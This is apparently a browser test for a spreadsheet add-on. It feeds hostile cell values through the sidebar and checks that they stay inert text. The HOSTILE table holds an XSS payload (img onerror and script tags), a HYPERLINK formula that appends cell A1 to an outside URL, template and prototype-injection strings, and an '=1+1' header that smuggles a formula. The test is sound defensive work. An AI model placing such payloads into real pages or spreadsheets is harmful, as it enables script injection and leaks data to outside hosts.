/** Cells that would like to be more than text. */
import {nameInCell} from '../../src/run/longNames';
import {mkdtempSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {csvFormat} from 'd3-dsv';
import {describeInBrowser, violations, workshop} from './workshop';

jest.setTimeout(60_000);

const LONG = 'x'.repeat(50_000);
const HOSTILE = {
  image: '<img src=x onerror="parent.hacked=hacked=1"><script>hacked=1</script>',
  formula: '=HYPERLINK("https://example.org/"&A1,"click")',
  long: LONG,
  rightToLeft: '\u202Eשלום مرحبا\u202C',
  emoji: '👩‍👩‍👧‍👦 🏴‍☠️',
  template: '${hacked=1} {n} {{constructor}}',
  proto: '__proto__',
} as const;

const folder = mkdtempSync(join(tmpdir(), 'ciclo-'));
const file = join(folder, 'hostile.csv');
afterAll(() => rmSync(folder, {recursive: true}));
writeFileSync(
  file,
  csvFormat(
    Object.values(HOSTILE).flatMap((name, i) =>
      [1, 2].map((n) => ({
        'Customer <b>bold</b>': name,
        Date: `2026-0${n}-1${i}`,
        Amount: `${10 * (i + 1)}`,
        '=1+1': name.slice(0, 200),
      })),
    ),
  ),
);

describeInBrowser('hostile cells', () => {
  const {open} = workshop();

  test('are shown as text and do nothing', async () => {
    const sheets = await open({file});
    const {words, messages, page, sidebar} = sheets;
    const hacked = async (): Promise<unknown[]> =>
      Promise.all(
        [page, await sheets.frame()].map((each) =>
          each.evaluate(() => (globalThis as {hacked?: unknown}).hacked ?? null),
        ),
      );
    const cells = await sheets.host('values', 'A2:A15');
    expect(cells.map(([cell]) => cell)).toEqual(
      Object.values(HOSTILE).flatMap((name) => [name, name]),
    );
    await sheets.openSidebar();
    await sidebar.getByText('<img src=x').first().waitFor();
    expect(await hacked()).toEqual([null, null]);
    expect(await violations(await sheets.frame())).toEqual([]);

    await sheets.button(/^Classify 7 /).click();
    await sheets.heading(words.result.title).waitFor();
    const customers = await sheets.host('values', 'A2:A8', messages.sheets.customers);
    // One that fills its cell is kept with its beginning, its end and its length.
    expect(new Set(customers.flat())).toEqual(new Set(Object.values(HOSTILE).map(nameInCell)));
    for (const row of [2, 4, 6, 8, 10, 12, 14]) {
      const {formula} = await sheets.host('cell', `A${row}`);
      expect(formula).toBe('');
    }

    // The sidebar stays as wide as it is, whatever the names.
    for (const row of [2, 4, 6, 8, 10, 12, 14]) {
      await sheets.host('activate', 'hostile');
      await sheets.host('select', `A${row}`);
      await sheets.button(words.views.row).click();
      await sheets.button(words.row.explain).click();
      await sheets.atRest();
      await sidebar.locator('.help', {hasText: `Row ${String(row)} of`}).waitFor();
      const width = await (await sheets.frame()).evaluate('document.documentElement.scrollWidth');
      expect(width).toBeLessThanOrEqual(300);
    }
    expect(await hacked()).toEqual([null, null]);
    expect(await violations(await sheets.frame())).toEqual([]);

    // Opened in the editor and left again, it is still whole.
    await sheets.host('select', 'A6');
    await page.keyboard.press('F2');
    await page.keyboard.press('Enter');
    await sheets.host('settled');
    expect((await sheets.host('cell', 'A6')).value).toBe(LONG);
  });
});
